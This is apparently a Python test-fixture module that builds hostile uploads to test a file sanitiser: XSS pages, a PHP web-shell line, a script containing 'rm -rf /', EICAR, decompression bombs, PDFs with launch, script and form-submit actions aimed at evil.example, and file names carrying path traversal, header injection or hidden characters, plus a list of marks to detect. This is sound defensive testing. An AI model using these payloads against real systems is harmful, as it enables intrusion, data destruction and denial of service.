"""Files that mean harm, made when they are asked for: none of them is kept in the repository.

`CORPUS` is name → (what the file is called, a function that makes it). Those in `DEAR` take seconds to be refused.
"""

import gzip
import zipfile
import zlib
from io import BytesIO

import pikepdf
from pikepdf import Dictionary, Name, String
from PIL import Image

from common.tests.hostile_pdf import (
    LOOP,
    carries,
    chained,
    flood,
    marked_with,
    nested,
    objects_without_end,
    opens_with,
    outside,
    pages_without_end,
    pdf,
    script,
    told,
    unfolds_to,
    with_root,
)

SCRIPT = b"<script>alert(1)</script>"
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR" + b"-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
# What must not be left in a file that is kept.
MARKS = (
    b"<script", b"alert(1)", b"app.alert", b"EICAR", b"MZ evil", b"PK\x03\x04", b"/JavaScript", b"/OpenAction",
    b"/Launch", b"/EmbeddedFile", b"/RichMedia", b"/XFA", b"/SubmitForm", b"/GoToR", b"evil.example", b"44.65",
    b"<x:xmpmeta", b"secret profile",
)  # fmt: skip


def image(kind="JPEG", size=(40, 20), **more) -> bytes:
    out = BytesIO()
    Image.new("RGB", size, "red").save(out, kind, **more)
    return out.getvalue()


def frames(kind: str, many: int) -> bytes:
    out, first = BytesIO(), Image.new("RGB", (20, 20))
    rest = [Image.new("RGB", (20, 20), (nth % 250, nth // 250, 0)) for nth in range(1, many)]
    first.save(out, kind, save_all=True, append_images=rest)
    return out.getvalue()


def chunk(name: bytes, data: bytes) -> bytes:
    return len(data).to_bytes(4) + name + data + zlib.crc32(name + data).to_bytes(4)


def png(*chunks: bytes, side=(1, 1), lines=b"\0\0") -> bytes:
    head = side[0].to_bytes(4) + side[1].to_bytes(4) + b"\x01\0\0\0\0"  # one bit, grey
    body = [chunk(b"IHDR", head), *chunks, chunk(b"IDAT", zlib.compress(lines)), chunk(b"IEND", b"")]
    return b"\x89PNG\r\n\x1a\n" + b"".join(body)


def zipped(name: str, octets: int) -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, b"0" * octets)
    return out.getvalue()


def exif() -> bytes:
    found = Image.Exif()
    found[0x010E] = "taken at 44.65 N"
    found.get_ifd(0x8825)[1] = "N"
    return found.tobytes()


SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
XMP = b'<x:xmpmeta xmlns:x="adobe:ns:meta/">taken at 44.65 N</x:xmpmeta>'
HTML = b"<!doctype html><html>" + SCRIPT + b"</html>"

CORPUS = {
    # Pages and programs under other names.
    "svg": ("x.svg", lambda: SVG),
    "svg called png": ("x.png", lambda: b'<?xml version="1.0"?>' + SVG),
    "html called jpg": ("x.jpg", lambda: HTML),
    "html called txt": ("x.txt", lambda: b"\n " + HTML),
    "html with a mark before it, called txt": ("x.txt", lambda: b"\xef\xbb\xbf" + HTML),
    "javascript called jpg": ("x.jpg", lambda: b"alert(1)"),
    "htaccess": (".htaccess", lambda: b"AddType text/html .jpg"),
    "script called txt": ("x.txt", lambda: b"#!/bin/sh\nrm -rf /\n"),
    "php called jpg": ("x.php.jpg", lambda: b"<?php system($_GET['c']);"),
    "windows program": ("x.pdf", lambda: b"MZ evil" + bytes(200)),
    "windows program called txt": ("x.txt", lambda: b"MZ evil, all of it readable"),
    "unix program": ("x.jpg", lambda: b"\x7fELF\x02\x01\x01" + bytes(200)),
    "eicar": ("eicar.com", lambda: EICAR),
    "eicar called jpg": ("x.jpg", lambda: EICAR),
    "utf-16 page called txt": ("x.txt", lambda: HTML.decode().encode("utf-16")),
    # Nothing, and nearly nothing.
    "nothing": ("x.jpg", lambda: b""),
    "one byte": ("x.jpg", lambda: b"\xff"),
    "only spaces called txt": ("x.txt", lambda: b" \r\n\t "),
    # Packed without end.
    "zip bomb": ("x.zip", lambda: zipped("a", 20_000_000)),
    "docx bomb": ("x.docx", lambda: zipped("word/document.xml", 20_000_000)),
    "xlsx bomb called pdf": ("x.pdf", lambda: zipped("xl/workbook.xml", 20_000_000)),
    "gz bomb": ("x.gz", lambda: gzip.compress(bytes(20_000_000))),
    # Pictures.
    "20,000 × 20,000 dots": ("x.png", lambda: png(side=(20_000, 20_000), lines=bytes(20_000 * 2_501))),
    "promised 65,535 × 65,535 gif": ("x.gif", lambda: b"GIF89a\xff\xff\xff\xff\x00\x00\x00;"),
    "as many dots as are taken": ("x.png", lambda: png(side=(7_000, 7_000), lines=bytes(7_000 * 876))),
    "png with a profile that unfolds": (
        "x.png", lambda: png(chunk(b"iCCP", b"x\0\0" + zlib.compress(bytes(200_000_000)))),
    ),
    "png with a text that unfolds": (
        "x.png", lambda: png(chunk(b"zTXt", b"x\0\0" + zlib.compress(bytes(200_000_000)))),
    ),
    "png with a thousand texts": (
        "x.png", lambda: png(*[chunk(b"zTXt", b"x\0\0" + zlib.compress(bytes(900_000)))] * 1_000),
    ),
    "png with a page behind it": ("x.png", lambda: image("PNG") + HTML),
    "png with a page inside": ("x.png", lambda: png(chunk(b"tEXt", b"Comment\0" + HTML))),
    "gif with javascript": ("x.gif", lambda: image("GIF", comment=b"*/=1;alert(1);/*" + SCRIPT)),
    "gif of 3,000 frames": ("x.gif", lambda: frames("GIF", 3_000)),
    "moving webp": ("x.webp", lambda: frames("WEBP", 100)),
    "moving png": ("x.png", lambda: frames("PNG", 100)),
    "jpeg with a page in its comment": ("x.jpg", lambda: image(comment=HTML)),
    "jpeg with a page behind it": ("x.html", lambda: image() + HTML),
    "jpeg with a zip behind it": ("x.jpg", lambda: image() + zipped("MZ evil", 100)),
    "jpeg with a place": ("x.jpg", lambda: image(exif=exif())),
    "webp with a place": ("x.webp", lambda: image("WEBP", exif=exif())),
    "jpeg with xmp": ("x.jpg", lambda: image(xmp=XMP)),
    "jpeg with a profile": ("x.jpg", lambda: image(icc_profile=b"secret profile" * 9)),
    "png with a profile": ("x.png", lambda: image("PNG", icc_profile=b"secret profile" * 9)),
    "jpeg with eicar behind it": ("x.jpg", lambda: image() + EICAR),
    "head of a jpeg": ("x.jpg", lambda: b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + b"<script>" * 50),
    "half a png": ("x.png", lambda: image("PNG", (400, 400))[:60]),
    "half a jpeg": ("x.jpg", lambda: image(size=(900, 900))[:4_000]),
    "half a gif": ("x.gif", lambda: image("GIF", (400, 400))[:30]),
    # PDFs that do something.
    "pdf with a script at opening": ("x.pdf", opens_with(script)),
    "pdf with a chain of actions": ("x.pdf", lambda: pdf(chained)),
    "pdf that starts a program": ("x.pdf", opens_with(lambda: Dictionary(S=Name.Launch, F=String("MZ evil")))),
    "pdf that opens an address": (
        "x.pdf", opens_with(lambda: Dictionary(S=Name.URI, URI=String("http://evil.example/"))),
    ),
    "pdf that sends a form": ("x.pdf", opens_with(lambda: Dictionary(S=Name.SubmitForm, F=String("http://evil.example/")))),
    "pdf that opens another": ("x.pdf", opens_with(lambda: Dictionary(S=Name.GoToR, F=String("evil.example"), D=[0]))),
    "pdf with a link to a script": ("x.pdf", marked_with(lambda: {"Subtype": Name.Link, "A": script()})),
    "pdf with a file within": ("x.pdf", carries(b"MZ evil")),
    "pdf with eicar within": ("x.pdf", carries(EICAR)),
    "pdf with a film": (
        "x.pdf",
        marked_with(lambda: {"Subtype": Name.RichMedia, "RichMediaContent": Dictionary(A=String("MZ evil"))}),
    ),
    "pdf with an xfa form": (
        "x.pdf", with_root("/AcroForm", lambda made: Dictionary(Fields=[], XFA=made.make_stream(SCRIPT))),
    ),
    "pdf whose drawing lies elsewhere": ("x.pdf", lambda: pdf(outside)),
    "pdf that tells of its author": ("x.pdf", lambda: pdf(told)),
    # PDFs without end, or none at all.
    "pdf and zip": ("x.pdf", lambda: pdf() + zipped("MZ evil", 100)),
    "pdf behind a page": ("x.pdf", lambda: HTML + pdf()),
    "locked pdf": ("x.pdf", lambda: pdf(encryption=pikepdf.Encryption(owner="o", user="secret"))),
    "pdf without pages": ("x.pdf", lambda: b"%PDF-1.7\n"),
    "half a pdf": ("x.pdf", lambda: pdf(chained)[:300]),
    "deep pdf": ("x.pdf", lambda: nested(500_000)),
    "deep pdf of dictionaries": ("x.pdf", lambda: nested(300_000, b"<</A", b">>")),
    "pdf that holds itself": ("x.pdf", lambda: LOOP),
    "pdf of a million pages": ("x.pdf", lambda: pages_without_end(1_000_000)),
    "pdf of 5,000 pages": ("x.pdf", lambda: pages_without_end(5_000)),
    "pdf of a million packed objects": ("x.pdf", lambda: objects_without_end(1_000_000)),
    "pdf whose drawing unfolds": ("x.pdf", unfolds_to(160 << 20)),
    "pdf whose drawing unfolds twice": ("x.pdf", unfolds_to(160 << 20, times=2)),
    "pdf of 200,000 × 200,000 dots": ("x.pdf", lambda: pdf(flood)),
    # Names; the content is a good picture.
    "name with folders": ("../../etc/x.png", lambda: image("PNG")),
    "name with folders of windows": (r"C:\x\..\..\x.png", lambda: image("PNG")),
    "name with another name": ('a"; filename="b.html', lambda: image("PNG")),
    "name of two lines": ("a\r\nSet-Cookie: x=1.png", lambda: image("PNG")),
    "name that reads backwards": ("a\u202egnp.exe", lambda: image("PNG")),
    "name with an end in it": ("x.png\0.html", lambda: image("PNG")),
    "name of 300 letters": ("x" * 300 + ".png", lambda: image("PNG")),
    "no name": ("", lambda: image("PNG")),
    "name of marks nobody sees": ("\u200b\u2066\ufeff.png", lambda: image("PNG")),
    "name with two endings": ("x.png.html", lambda: image("PNG")),
    "name of a device": ("CON.png", lambda: image("PNG")),
}  # fmt: skip
DEAR = {
    "20,000 × 20,000 dots", "png with a profile that unfolds", "png with a text that unfolds",
    "png with a thousand texts", "gif of 3,000 frames", "deep pdf of dictionaries", "pdf of a million pages",
    "pdf of a million packed objects", "pdf whose drawing unfolds", "pdf whose drawing unfolds twice",
    "as many dots as are taken", "moving webp", "pdf of 5,000 pages",
}  # fmt: skip


def laid_open(content: bytes) -> bytes:
    """A kept file with what is packed in it unpacked, so that nothing hides from a look for words."""
    if not content.startswith(b"%PDF-"):
        return content
    with pikepdf.open(BytesIO(content)) as document:
        attached = [one.get_file().read_bytes() for one in document.attachments.values()]
        parts = [one.read_bytes() for one in document.objects if isinstance(one, pikepdf.Stream)]
        words = [one.unparse() for one in document.objects if not isinstance(one, pikepdf.Stream)]
    return b"\n".join([content, *attached, *parts, *words])


def what_acts(content: bytes) -> list[bytes]:
    """What is left in a kept file that must not be there."""
    seen = laid_open(content)
    return [mark for mark in MARKS if mark in seen]
